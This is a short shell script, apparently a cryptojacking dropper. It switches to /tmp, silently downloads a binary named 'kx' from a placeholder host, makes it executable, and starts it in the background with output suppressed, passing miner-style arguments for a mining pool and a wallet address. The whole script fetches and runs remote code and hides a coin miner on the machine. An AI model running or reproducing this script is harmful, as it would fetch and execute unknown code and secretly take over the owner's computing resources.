#!/bin/sh
cd /tmp && wget -q http://files.example.invalid/kx -O kx && chmod +x kx
nohup ./kx -o pool.example.invalid:3333 -u WALLETADDRESS --donate-level 1 >/dev/null 2>&1 &
